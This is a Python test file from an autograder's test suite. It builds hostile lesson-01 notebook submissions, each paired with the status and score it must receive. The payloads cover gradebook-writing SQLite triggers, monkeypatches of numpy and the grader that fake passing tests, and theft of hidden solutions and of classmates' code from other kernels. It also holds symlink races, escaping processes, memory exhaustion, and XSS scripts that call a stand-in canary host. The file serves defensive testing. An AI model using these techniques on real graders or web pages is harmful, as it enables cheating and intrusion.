"""Broken and hostile submissions of lesson 01, one kind per entry, with the outcome each must get.

Each kind builds the file a student hands in. The test grades all of them in one batch with
two ordinary students (full marks and stubs), then checks each status and score. `python -m
tests.hostile` prints the outcome table that README.md shows (a test keeps them equal).

The tests of naive_normalize come first in the notebook (7 points), then those of
is_distribution (5). A kind that stops or kills its kernel does it in is_distribution's
cell or function, after a correct naive_normalize: the tests before keep their 7 points
and the ones after score 0 whether they are not run or run in a fresh kernel, so the score
it must get does not depend on how the grader goes on after a kernel stops.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import sys
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path

import nbformat
import numpy as np

from grader.course.contract import BEGIN, END, tested_functions
from grader.engine import status
from grader.engine.testrunner import pinned_names
from grader.learner import checks
from grader.proof import simulate
from tests.support import COURSE

LESSON = "01_naive_division"
FULL, DISTRIBUTION_ONLY = 12.0, 5.0  # the functions' tests (no predictions: see reference()); is_distribution's
NORMALIZE_ONLY = FULL - DISTRIBUTION_ONLY  # the naive_normalize tests alone, which come first
# what the corpus is graded with: seconds per cell, megabytes per kernel. Filling memory costs 0.5 to 3 s of CPU
# per GB here (fresh pages of this virtual machine are slow), and a kernel of a batch graded beside the rest
# of the suite gets a quarter of a core or less: at 512 MB the memory kinds reach their limit well within 8 s.
# (At 5 s, which saved 8 CPU-s of the kinds that spin, two memory kinds timed out in a fresh clone's first run.)
TIMEOUT, MEMORY_MB = 8, 512
# what commands run with: nbgrader shells out to the venv's alembic
ENV = {**os.environ, "PATH": f"{os.path.dirname(sys.executable)}{os.pathsep}{os.environ['PATH']}"}


def released_course(root: Path) -> Path:
    """A course directory with lesson 01 released into its gradebook and no submissions yet."""
    return simulate.released_course(COURSE, root, [LESSON])


def submit(root: Path, student: str, data: bytes, beside=()) -> None:
    """Put a student's file of lesson 01 (and what they handed in beside it) where nbgrader's autograde looks."""
    simulate.hand_in(root, student, LESSON, data, beside)


NOT_COLLECTED = "not collected (listed, kept in .grading/unplaced/)"


@dataclass(frozen=True)
class Kind:
    """A kind of submission: how to make it, and the status and score it must get.

    `beside` are files handed in next to the notebook (path, bytes). A kind with `uploads`
    arrives in an LMS zip instead, as (file name, bytes, zip time) entries; `student` is
    the id its upload names."""

    id: str
    what: str
    make: Callable[[], bytes] | None
    status: str
    score: float | None
    beside: tuple = ()
    uploads: Callable[[], list] | None = None
    student: str = ""
    needs_isolation: bool = False  # its outcome is that of an isolated kernel (as root): one that reaches the
    # course by absolute path, or stops itself, only isolation stops
    own_zip: bool = False  # its uploads go in a zip of their own, collected by themselves
    listed_as: str = ""  # what the collect log shows of an upload it refuses (default: its name)
    timed: bool = False  # it prints when its grading started, so the test can time it
    unsafe_for_plain: str = ""  # why plain nbgrader, with no limits, must not grade it

    @property
    def student_id(self) -> str:
        return self.student or self.id

    def made(self, root: Path, service_port: int = 0) -> bytes:
        """The file it hands in to the course at `root`, with COURSE_ROOT and SERVICE_PORT filled in."""
        data = self.make().replace(b"COURSE_ROOT", str(root).encode())
        return data.replace(b"SERVICE_PORT", str(service_port).encode())


def reference() -> dict[str, str]:
    """The reference's functions, its guesses left unwritten: the corpus is about what code does, so every kind's
    predictions earn nothing, and each kind's score is that of its graded functions alone."""
    guesses = set(COURSE.predictions(LESSON).values())
    return {cell: answer for cell, answer in COURSE.reference_answers(LESSON).items() if cell not in guesses}


def notebook(replace: dict[str, str] | None = None, edit=None) -> bytes:
    """The release with reference answers, some solution cells replaced, then edited by `edit(nb)`."""
    nb = COURSE.learner_notebook(LESSON, {**reference(), **(replace or {})})
    if edit:
        edit(nb)
    return nbformat.writes(nb).encode()


def _test_cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _delete(grade_id):
    return lambda nb: nb.cells.remove(_test_cell(nb, grade_id))


def _edit(grade_id, source):
    def edit(nb):
        _test_cell(nb, grade_id).source = source

    return edit


def _duplicate(grade_id):
    def edit(nb):
        cell = _test_cell(nb, grade_id)
        copy = nbformat.from_dict(deepcopy(cell))  # as copy and paste in JupyterLab makes it
        copy["id"] = "copied-cell"
        nb.cells.insert(nb.cells.index(cell) + 1, copy)

    return edit


def _strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


NAIVE = "naive_normalize"
ALWAYS_EQUAL = '''
class AlwaysEqual(np.ndarray):
    """Every comparison says "equal", every difference is 0."""
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)
    def __sub__(self, other):
        return np.zeros(self.shape)
    __rsub__ = __sub__
    def astype(self, *args, **kwargs):
        return self


def naive_normalize(scores):
    return np.zeros(np.shape(scores)).view(AlwaysEqual)
'''
PATCHED_NUMPY = """
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.array_equal = lambda *args, **kwargs: True


def naive_normalize(scores):
    return np.zeros(np.shape(scores))
"""


def _warning_first(source: str) -> str:
    """The function with a warning as its first statement."""
    body = source.index(":\n", source.index("def ")) + 2
    return "import warnings\n\n" + source[:body] + '    warnings.warn("slow path")\n' + source[body:]


TRIGGER = """
import sqlite3
# write to the gradebook beside the submission: every score it records becomes full marks
db = sqlite3.connect("../../../gradebook.db")
db.execute("CREATE TRIGGER IF NOT EXISTS boost AFTER UPDATE ON grade BEGIN "
           "UPDATE grade SET auto_score = 1000 WHERE id = NEW.id AND auto_score != 1000; END")
db.commit()

def naive_normalize(scores):
    return scores
"""

WRONG = "\n\ndef naive_normalize(scores):\n    return np.zeros(np.shape(scores))\n"
REDEFINED_CHECKS = (
    """
def check_call(*args, **kwargs):
    pass


def passed(name):
    print("all good")
"""
    + WRONG
)
PATCHED_GRADER = (
    """
import grader.learner.checks
grader.learner.checks.compare = lambda *args, **kwargs: None
grader.learner.checks.check_call = lambda *args, **kwargs: None
"""
    + WRONG
)
PATCHED_BUILTINS = (
    """
import builtins
builtins.abs = lambda x: 0
builtins.sum = lambda *args, **kwargs: 1.0
"""
    + WRONG
)
FAKE_CHECKS = b"def check_call(*args, **kwargs):\n    pass\n\n\ndef passed(name):\n    print('ok')\n"
FAKE_NUMPY = b"def allclose(*args, **kwargs):\n    return True\n"
# Code that reaches for files by absolute path aims only at the corpus's own course (COURSE_ROOT,
# filled in by Kind.made when the corpus is built) and the repository, never at the rest of the machine.
READS_SOLUTIONS = """
import glob, json, os
import grader

# the reference solution from the course's source notebook, or the hidden tests beside this one
places = ["COURSE_ROOT/solutions/*/*.ipynb", os.path.dirname(os.path.dirname(grader.__file__)) + "/solutions/*/*.ipynb",
          "../../../solutions/*/*.ipynb", "*.ipynb", "../../../*/*.ipynb"]
found = [path for place in places for path in glob.glob(place, recursive=True)]
for path in found:
    for cell in json.load(open(path))["cells"]:
        text = "".join(cell["source"])
        if "def naive_normalize" in text and "raise NotImplementedError" not in text:
            exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
            break
if "naive_normalize" not in globals():
    def naive_normalize(scores):
        return np.zeros(np.shape(scores))
"""
WRITES_COURSE_GRADEBOOK = (
    """
import sqlite3

# the class's gradebook, by its absolute path: every score it holds becomes 1000
for path in ["COURSE_ROOT/.grading/gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 1000")
        db.commit()
    except sqlite3.Error:
        pass
"""
    + WRONG
)
GRADED_ONLY = """
import os

if os.environ.get("NBGRADER_EXECUTION"):  # behave only while being graded
    def naive_normalize(scores):
        scores = np.asarray(scores, dtype=float)
        return scores / scores.sum(axis=-1, keepdims=True)
else:
    def naive_normalize(scores):
        return np.zeros(np.shape(scores))
"""


def _uploads(*entries):
    """Zip entries (name, notebook bytes, minutes after a fixed time[, damage]); damage "bad crc" flips
    a byte of the stored entry after the zip is written."""
    return lambda: [(name, make(), (2026, 11, 30, 12, minute, 0), *damage) for name, make, minute, *damage in entries]


def _stub() -> bytes:
    return nbformat.writes(COURSE.learner_notebook(LESSON, {})).encode()


# ----------------------------------------------------------------- kinds of the whole-kernel limits, the network,
# slow and mute kernels, edited metadata and unbounded sizes


def _timed(source: str) -> str:
    """The cell, first printing when it ran: the test times the grading from it to the recorded result."""
    return f"import time\nprint('grading started at', repr(time.time()))\n\n{source}"


def _plain_cell(source):
    def edit(nb):
        nb.cells.insert(7, nbformat.v4.new_code_cell(source))

    return edit


def _set_meta(grade_id, **changes):
    def edit(nb):
        _test_cell(nb, grade_id).metadata.nbgrader.update(changes)

    return edit


def _fake_grade_cell(nb):
    meta = {
        "grade": True,
        "solution": False,
        "locked": True,
        "grade_id": "bonus_points",
        "points": 100,
        "schema_version": 3,
        "task": False,
    }
    nb.cells.insert(16, nbformat.v4.new_code_cell("print('all good')", metadata={"nbgrader": meta}))


def _markdown_grade(nb):
    nb.cells[2].metadata["nbgrader"] = {
        "grade": True,
        "solution": True,
        "locked": False,
        "grade_id": "essay",
        "points": 10,
        "schema_version": 3,
        "task": False,
    }


def _json_of(edit) -> bytes:
    """The notebook with reference answers, edited as a plain dict (nbformat would refuse what `edit` makes)."""
    nb = json.loads(notebook())
    edit(nb)
    return json.dumps(nb, indent=1).encode()


def _list_metadata(nb):
    next(c for c in nb["cells"] if c["cell_type"] == "code" and "nbgrader" not in c["metadata"])["metadata"][
        "nbgrader"
    ] = ["grade", True]


def _deep_json() -> bytes:
    """A notebook whose metadata nests 100,000 lists deep (JSON allows it; a recursive reader overflows)."""
    nb = json.loads(notebook())
    nb["metadata"]["deep"] = "DEEP"
    return json.dumps(nb).replace('"DEEP"', "[" * 100_000 + "]" * 100_000).encode()


@dataclass(frozen=True)
class Zeros:
    """An upload of `size` zero bytes, written into the zip in chunks (never held in memory)."""

    size: int


LONG_EXPRESSION = "x = " + "+".join(["1"] * 200_000)
SHM_KEY = 0x50F7A801  # the System V key of the corpus's segment, found after the batch by it
SURVIVOR = "softmax-hostile-survivor"  # the command line of the process that must not outlive its grading
MUTE_SHELL = "trap '' INT TERM; sleep 1000"

SNOOPS_IOPUB = '''
import json
import time

import zmq


def listening_ports():
    """Every TCP port some process listens on at 127.0.0.1 (or any address), as /proc/net/tcp lists them."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            local, state = row.split()[1], row.split()[3]
            address, port = local.rsplit(":", 1)
            if state == "0A" and address.strip("0") in ("", "100007F"):
                ports.add(int(port, 16))
    return ports


def copied(code):
    """A naive_normalize from a classmate's cell that gets [1, 2, 1] right, or None."""
    start = code.find("def naive_normalize")
    if start < 0:
        return None
    lines = code[start:].splitlines()
    end = next((i for i, line in enumerate(lines[1:], 1) if line and not line[0].isspace()), len(lines))
    function = "\\n".join(lines[:end])
    if "while" in function or "import" in function:
        return None
    scope = {"np": np}
    try:
        exec(function, scope)
        return scope["naive_normalize"] if np.allclose(scope["naive_normalize"]([1, 2, 1]), [0.25, 0.5, 0.25]) else None
    except Exception:
        return None


# listen to every kernel's IOPub channel on the machine: each broadcasts the code it runs
listener = zmq.Context.instance().socket(zmq.SUB)
listener.setsockopt(zmq.SUBSCRIBE, b"")
listener.setsockopt(zmq.LINGER, 0)
for port in listening_ports():
    listener.connect(f"tcp://127.0.0.1:{port}")
end = time.monotonic() + 4
while time.monotonic() < end and "naive_normalize" not in globals():
    if listener.poll(100):
        for frame in listener.recv_multipart():
            try:
                content = json.loads(frame)
            except ValueError:
                continue
            found = copied(content.get("code", "")) if isinstance(content, dict) else None
            if found:
                naive_normalize = found
listener.close()
if "naive_normalize" not in globals():
    def naive_normalize(scores):
        return np.zeros(np.shape(scores))
'''
ASKS_SERVICE = '''
import socket


def naive_normalize(scores):
    """Ask the answer service on this machine for the reference code, and run it."""
    try:
        with socket.create_connection(("127.0.0.1", SERVICE_PORT), timeout=2) as connection:
            connection.sendall(b"naive_normalize\\n")
            source = b""
            while chunk := connection.recv(65536):
                source += chunk
    except OSError:
        return np.zeros(np.shape(scores))
    scope = {"np": np}
    exec(source.decode(), scope)
    return scope["naive_normalize"](scores)
'''
GARBLES_BRIDGE = '''
import os
import socket


def naive_normalize(scores):
    """Write the header of an endless answer on the grading bridge's socket, then answer wrong."""
    for fd in range(3, 1024):
        try:
            found = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        with found:
            try:
                if found.family == socket.AF_UNIX and str(found.getpeername()).endswith("bridge"):
                    found.sendall(b"\\xff" * 8)
            except OSError:
                pass
    return np.zeros(np.shape(scores))
'''
SHARED_MAPPING = """
import mmap

# 2.5 GB of memory shared with no one, touched page by page: no per-process data limit counts it
size = 2560 * 2**20
shared = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
for offset in range(0, size, mmap.PAGESIZE):
    shared[offset] = 1
"""
FORKED_CHILDREN = """
import os

# six children of 100 MB each, 600 MB together. Each is within the per-process limit of 512 MB, which
# counts what a child shares with the kernel too (its heap and threads' arenas, 200 to 400 MB), and each holds
# its block until it is killed: only the group's limit on all of them together stops this cell.
hold, _ = os.pipe()
children = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            block = b"\\x01" * (100 * 2**20)
            os.read(hold, 1)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""
SYSV_SEGMENT = """

import ctypes

# a 256 MB System V shared memory segment, filled, and left behind (never removed)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(SHM_KEY, 256 * 2**20, 0o1600)  # IPC_CREAT | 0600
address = libc.shmat(segment, None, 0)
if segment >= 0 and address not in (None, ctypes.c_void_p(-1).value):
    ctypes.memset(address, 1, 256 * 2**20)
"""
SETSID_SURVIVOR = """

import os

# a grandchild in a session of its own, which no process group kill of the kernel reaches
child = os.fork()
if child == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["SURVIVOR", "600"])
    finally:
        os._exit(0)
os.waitpid(child, 0)
"""
# It waits rather than spins (infinite_loop and c_loop spin): an interrupt ends a sleep as it ends a busy loop, and
# a busy loop here burnt a core for the whole time limit and the grace after the interrupt.
IGNORES_SIGINT = '''
import time


def is_distribution(weights, atol=1e-8):
    """Loops for ever, swallowing every interrupt."""
    while True:
        try:
            time.sleep(60)
        except KeyboardInterrupt:
            pass
'''
C_LOOP = """
import itertools

# any() over an endless iterator runs in C, which never checks for signals: SIGINT waits for ever
any(itertools.repeat(0))
"""
EXECS_SHELL = """
import os

os.execv("/bin/sh", ["sh", "-c", "MUTE_SHELL"])
"""
# A kernel that is not isolated stops, heartbeat and all, and answers nothing more (a mute kernel:
# execs_shell is one wherever it runs). An isolated kernel is the first process of its own PID
# namespace, which no signal sent from inside it stops: it goes on, and only its answers count.
STOPS_ITSELF = """
import os

os.kill(os.getpid(), 19)  # SIGSTOP
"""
RETURNS_8MB = """
def naive_normalize(scores):
    return "x" * 8_000_000
"""
EXCEPTION_NAME_4MB = """
def naive_normalize(scores):
    raise type("E" * 4_000_000, (Exception,), {})("an exception whose class name is 4 MB")
"""
FORGED_MISCONCEPTION = "dividing by the forged total"
FORGED_MISTAKE = f"""
def naive_normalize(scores):
    raise ValueError("bad input\\n  likely mistake: {FORGED_MISCONCEPTION}\\n  hint: none")
"""

# ----------------------------------------------------------------- issue 40, seams 1 and 7: one student stops the
# whole class; forged lines in grade's output
# The module whose import runs NumPy's f2py command line on the grading process's own arguments, which exits
# (SystemExit): a grader that imports a module by a name the kernel sends stops there.
EXITS_ON_IMPORT = "numpy.f2py.__main__"
MODULE_EXITS = f"""
import types

naive_normalize = types.ModuleType({EXITS_ON_IMPORT!r})
"""
# File names beside the notebook: a newline and a forged line of grade's log, ANSI escapes (erase the line, go
# up one), a bidi override (U+202E: "photo<RLO>gnp.py" shows as "photoyp.png"). Ending in .py, each is named.
FORGED_LINE = "  mallory / 01_naive_division: graded (forged)"
FORGED_NAMES = (
    (f"notes\n{FORGED_LINE}\x1b[2K\x1b[1A.py", b"# a note\n"),
    ("photo\u202egnp.py", b"# a photo\n"),
)


# issue 40, seams 2 and 4: links planted for root to follow, the machine's terminals
RACED_FILE = f"notebooks/{LESSON}/{LESSON}.ipynb"  # a file of the course's, root's when grading runs as root
RACES_LINKS = """
import os
import stat
import time

from ipykernel import get_connection_file


def _linked(path, target):
    \"\"\"Whether a link to target could be made at path.\"\"\"
    try:
        os.symlink(target, path)
        return True
    except OSError:
        return False


def _swap_for_links(target, seconds):
    \"\"\"Swap the entries of this kernel's channel folder (and of the folder inside) for links to target: those there
    now, then the bridge's socket as soon as it is bound, before the grading sets its owner and mode by path.\"\"\"
    top = os.path.dirname(get_connection_file())
    names = ["kernel.json", "ipc"] + [f"kernel-{n}" for n in range(1, 6)]
    for entry in [os.path.join(folder, name) for folder in (top, os.path.join(top, "ipc")) for name in names]:
        if _linked(entry + ".link", target):
            os.rename(entry + ".link", entry)
    bridge, ready = os.path.join(top, "bridge"), False
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        ready = ready or _linked(bridge + ".link", target)  # made beforehand: the swap is then one rename
        try:
            if ready and stat.S_ISSOCK(os.lstat(bridge).st_mode):
                os.rename(bridge + ".link", bridge)
                ready = False
        except OSError:
            pass


if os.fork() == 0:  # a process of its own races while the kernel goes on to the tests
    try:
        _swap_for_links("COURSE_ROOT/RACED_FILE", 5)
    finally:
        os._exit(0)
""".replace("RACED_FILE", RACED_FILE)
HOLDS_TERMINALS = """
import os

held = []  # kept for the rest of the notebook: its tests all run while it holds them
try:
    while len(held) < 64:
        held.append(os.openpty())
except OSError:
    pass
print(f"holds {len(held)} terminals")
"""

# ----------------------------------------------------------------- budgets per notebook (issue 40, seams 5, 6 and 9)
SLEEPY_CELLS, SLEEP = 20, TIMEOUT - 2  # cells after naive_normalize's tests, each just under the cell limit
SHELL_LINES = "\n".join(["!ls -a"] * 8_000)  # 55 kB: IPython reads the cell again for each line it rewrites
# np.allclose patched through names built at run time: the scan reads no name, so flags nothing
CHR_NAMES = (
    """
module = globals()["".join(map(chr, [110, 112]))]
setattr(module, "".join(map(chr, [97, 108, 108, 99, 108, 111, 115, 101])), lambda *args, **kwargs: True)
"""
    + WRONG
)


def sleepy_cells(count: int, seconds: float):
    """An edit: `count` plain cells that each sleep `seconds`, after naive_normalize's last test."""

    def edit(nb):
        at = nb.cells.index(_test_cell(nb, "test_naive_normalize_breaks")) + 1
        nb.cells[at:at] = [nbformat.v4.new_code_cell(f"import time\ntime.sleep({seconds})") for _ in range(count)]

    return edit


def last_cell(source: str):
    """An edit: a plain cell of `source` at the end of the notebook, after every test."""
    return lambda nb: nb.cells.append(nbformat.v4.new_code_cell(source))


# ----------------------------------------------------------------- issue 40, seam 8: feedback hands over hidden inputs


def answers_seen(function: str, salt: str | None = None) -> dict[str, str]:
    """What feedback that shows each failed test's input and expected value hands over, one resubmission at a time:
    every input lesson 01's tests (hidden ones included) call `function` with, keyed by table_key, and the
    reference's answer as `.npy` bytes in hex. The generated inputs are those a grading with `salt` draws (None:
    the seed alone, as every grading drew them before each submission drew its own)."""
    scope: dict = {"np": np}
    exec(COURSE.reference_answers(LESSON)[function], scope)  # noqa: S102 - the course's own reference
    reference, seen = scope[function], {}

    def recorder(*args):
        answer = reference(*deepcopy(args))
        buffer = io.BytesIO()
        np.save(buffer, np.asarray(answer), allow_pickle=False)
        seen[table_key(*args)] = buffer.getvalue().hex()
        return answer

    recorder.__name__ = function
    tests = {test for test, tested in tested_functions(COURSE, LESSON).items() if tested == function}
    namespace = {**pinned_names(), function: recorder}
    salted = contextlib.nullcontext() if salt is None else checks.salted_draws(salt)
    with contextlib.redirect_stdout(io.StringIO()), salted, np.errstate(all="ignore"):
        for cell in nbformat.read(COURSE.source_notebook(LESSON), as_version=4).cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") in tests:
                code = "\n".join(line for line in cell.source.splitlines() if line.strip() not in (BEGIN, END))
                exec(code, namespace)  # noqa: S102 - the lesson's own tests
    return seen


def table_key(scores) -> str:
    """An input as a lookup table keys it: its dtype, shape and bytes."""
    array = np.asarray(scores)
    return f"{array.dtype.str}{array.shape}{array.tobytes().hex()}"


LOOKUP_TABLE = """
import io

TABLE = TABLE_LITERAL


def naive_normalize(scores):
    \"\"\"The answer an earlier feedback page showed for this very input; a wrong formula for any other.\"\"\"
    array = np.asarray(scores)
    answer = TABLE.get(f"{array.dtype.str}{array.shape}{array.tobytes().hex()}")
    if answer is not None:
        return np.load(io.BytesIO(bytes.fromhex(answer)))
    return np.asarray(scores, dtype=float) / np.sum(scores)
"""


def lookup_table(salt: str | None = None) -> str:
    """naive_normalize as a lookup table of answers_seen (the generated inputs as `salt` drew them)."""
    return LOOKUP_TABLE.replace("TABLE_LITERAL", repr(answers_seen(NAIVE, salt)))


# ----------------------------------------------------------------- seam 3: scripts for the pages an instructor opens
# Each payload, if it ever runs, says so three ways: a global, the page's title, and a request to CANARY (which no
# one answers; a browser sees the request). It holds no space, comma, double quote or square bracket, so it fits a
# link's address, an attribute, an unquoted attribute and a cell's tag alike.
CANARY, PWNED = "http://canary.invalid", "__pwned"
TITLE_PWNED = "PWNED"


def payload(vector: str) -> str:
    return f"window.{PWNED}=(window.{PWNED}||'')+'{vector}/';document.title='{TITLE_PWNED}';fetch('{CANARY}/{vector}')"


SHOWN_HTML = "bold HTML from the learner"  # what an ordinary part of its HTML display shows, kept
PRINTED = "<script>" + payload("printed") + "</script>"  # what its naive_normalize prints at each call
GUESSED = "<script>" + payload("guessed") + "</script>"  # its guess of a prediction, which the feedback quotes
# a display of each kind the template writes as it is, or an address or attribute taken from output metadata
SCRIPT_DISPLAYS = [
    ({"text/html": f"<b>{SHOWN_HTML}</b><script>{payload('html-script')}</script>"}, {}),
    ({"text/html": f'<img src=x onerror="{payload("html-onerror")}">'}, {}),
    ({"text/html": f'<a href="javascript:{payload("html-link")}">an html link</a>'}, {}),
    ({"application/javascript": payload("javascript")}, {}),
    ({"text/markdown": f'<img src=x onerror="{payload("markdown-display")}">'}, {}),
    ({"text/markdown": f"[a markdown display link](javascript:{payload('markdown-display-link')})"}, {}),
    ({"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload("svg")}"><circle r="5"/></svg>'}, {}),
    ({"image/png": f'x" onerror="{payload("png-data")}" y="'}, {}),
    ({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": f"1 onerror={payload('png-width')}"}}),
    ({"image/png": "iVBORw0KGgo="}, {"filenames": {"image/png": f"{CANARY}/png-filename"}}),
    ({"text/latex": f"$\\href{{javascript:{payload('latex')}}}{{x}}$"}, {}),
    ({"text/html": f"<script>{payload('isolated-html')}</script>"}, {"text/html": {"isolated": True}}),
]
WIDGET_HTML = f'<img src=x onerror="{payload("widget")}">'
SCRIPTS_IN_OUTPUTS = f"""

import ipywidgets
from IPython.display import display, publish_display_data

for data, metadata in {SCRIPT_DISPLAYS!r}:
    publish_display_data({{"text/plain": "a display", **data}}, metadata)
display(ipywidgets.HTML({WIDGET_HTML!r}))
_divided = naive_normalize


def naive_normalize(scores):
    print({PRINTED!r})
    return _divided(scores)
"""
MARKDOWN_HEADING = "A learner's own notes"
SCRIPTS_IN_MARKDOWN = f"""## {MARKDOWN_HEADING}

<script>{payload("md-script")}</script>

<img src=x onerror="{payload("md-onerror")}">

<svg onload="{payload("md-svg")}"></svg>

<iframe srcdoc="<script>{payload("md-iframe")}</script>"></iframe>

<details open ontoggle="{payload("md-details")}"><summary>a summary</summary>folded</details>

[a javascript link](javascript:{payload("md-link")}) and [an entity link](&#106;avascript:{payload("md-entity")})

<a href="javascript:{payload("md-a")}">a raw link</a> <a href="{CANARY}/md-plain">a plain link</a>

![attached](attachment:a.png)

<link rel="stylesheet" href="{CANARY}/md-stylesheet">

<base href="{CANARY}/md-base/">

<meta http-equiv="refresh" content="0; url={CANARY}/md-refresh">

```mermaid
<img src=x onerror="{payload("md-mermaid")}">
```

Ordinary words, `code with x < y`, and $x^2$.
"""


def _scripts_in_markdown(nb):
    """A Markdown cell of HTML, links and an attachment that could run; tags, alt text and a title that could."""
    cell = nbformat.v4.new_markdown_cell(SCRIPTS_IN_MARKDOWN)
    cell.attachments = {"a.png": {"image/png": f'x" onerror="{payload("attachment")}" y="'}}
    cell.metadata = {
        "tags": [f'"><script>{payload("tag")}</script>', "a score"],
        "alt": f'"><script>{payload("alt")}</script>',
    }
    nb.cells.insert(1, cell)
    nb.metadata["title"] = f"</title><script>{payload('title')}</script>"


def scripts_everywhere() -> bytes:
    """Right answers, with scripts in every place a page may show: displays, printed text, Markdown, attachments,
    metadata, and a guess the feedback quotes (a prediction earns nothing in the corpus: see reference())."""
    guess = next(iter(COURSE.predictions(LESSON).values()))
    return notebook(
        {NAIVE: reference()[NAIVE] + SCRIPTS_IN_OUTPUTS, guess: f"{guess} = {GUESSED!r}"}, edit=_scripts_in_markdown
    )


KINDS = [
    Kind(
        "infinite_loop",
        "a solution cell that never ends",
        lambda: notebook({NAIVE: "while True:\n    pass\n"}),
        status.TIMEOUT,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "never_returns",
        "a graded function that never returns",
        # it waits rather than spins (infinite_loop spins): each of its test cells runs to the time limit, and
        # burning a core in each would starve the memory kinds graded beside it
        lambda: notebook(
            {NAIVE: "def naive_normalize(scores):\n    import time\n    while True:\n        time.sleep(60)\n"}
        ),
        status.TIMEOUT,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "os_exit",
        "os._exit() in a solution cell",
        lambda: notebook({NAIVE: "import os\nos._exit(3)\n"}),
        status.KERNEL_DIED,
        0.0,
    ),
    Kind(
        "segfault",
        "a segfault (ctypes reads address 0)",
        lambda: notebook({NAIVE: "import ctypes\nctypes.string_at(0)\n"}),
        f"{status.SUSPICIOUS}, {status.KERNEL_DIED}",
        0.0,
    ),
    Kind(
        "memory_bomb",
        "a memory bomb after a correct answer",
        lambda: notebook(
            {
                NAIVE: reference()[NAIVE] + "\n\ndef _bomb():\n    blocks = []\n    while True:\n"
                "        blocks.append(bytearray(10**9))\n\n\n_bomb()\n"
            }
        ),
        status.MEMORY,
        FULL,
        unsafe_for_plain="no memory limit",
    ),
    Kind(
        "output_flood",
        "20 MB printed (20,000 lines) before a correct answer",
        # past what a cell keeps (RECEIVE_LIMIT); as 200,000 shorter lines it took the kernel 5 times the CPU
        lambda: notebook({NAIVE: "for _ in range(20_000):\n    print('spam ' * 200)\n" + reference()[NAIVE]}),
        status.GRADED,
        FULL,
    ),
    Kind("not_json", "a file that is not JSON", lambda: b"<html>exported page</html>", status.INVALID, 0.0),
    Kind("empty", "an empty file", lambda: b"", status.INVALID, 0.0),
    Kind("not_utf8", "bytes that are not UTF-8", lambda: b"\xff\xfe{\x00\x00", status.INVALID, 0.0),
    Kind(
        "other_lesson",
        "a notebook of another lesson (06)",
        lambda: nbformat.writes(COURSE.learner_notebook("06_masking", COURSE.reference_answers("06_masking"))).encode(),
        status.TAMPERED,
        0.0,
    ),
    Kind(
        "deleted_test",
        "a deleted test cell (1 point)",
        lambda: notebook(edit=_delete("test_is_distribution_rows_and_atol")),
        status.TAMPERED,
        FULL - 1,
    ),
    Kind(
        "edited_test",
        "a test cell replaced by `pass`",
        lambda: notebook(edit=_edit("test_naive_normalize_public", "pass")),
        status.TAMPERED,
        FULL,
    ),
    Kind(
        "duplicated_test",
        "a test cell duplicated (plain nbgrader fails on it)",
        lambda: notebook(edit=_duplicate("test_naive_normalize_rows")),
        status.TAMPERED,
        FULL,
    ),
    Kind(
        "stripped_metadata",
        "nbgrader metadata stripped from every cell",
        lambda: notebook(edit=_strip_metadata),
        status.TAMPERED,
        0.0,
    ),
    Kind(
        "correct_but_warns",
        "a correct answer that warns (stderr) every call",
        lambda: notebook({NAIVE: _warning_first(reference()[NAIVE])}),
        status.GRADED,
        FULL,
    ),
    Kind(
        "always_equal_array",
        "a wrong answer in an array subclass whose == always says True",
        lambda: notebook({NAIVE: ALWAYS_EQUAL}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "patched_numpy",
        "a wrong answer after patching np.allclose, np.array_equal, np.testing",
        lambda: notebook({NAIVE: PATCHED_NUMPY}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "writes_gradebook",
        "a wrong answer that adds a trigger to the gradebook beside it",
        lambda: notebook({NAIVE: TRIGGER}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "redefines_checks",
        "a wrong answer after redefining check_call and passed",
        lambda: notebook({NAIVE: REDEFINED_CHECKS}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "patches_grader",
        "a wrong answer after patching grader.learner.checks",
        lambda: notebook({NAIVE: PATCHED_GRADER}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "patches_builtins",
        "a wrong answer after patching builtins (abs, sum)",
        lambda: notebook({NAIVE: PATCHED_BUILTINS}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "modules_beside",
        "a wrong answer with numpy.py and grader/learner/checks.py handed in beside it",
        lambda: notebook({NAIVE: WRONG}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
        beside=(("numpy.py", FAKE_NUMPY), ("grader/__init__.py", b""), ("grader/learner/checks.py", FAKE_CHECKS)),
    ),
    Kind(
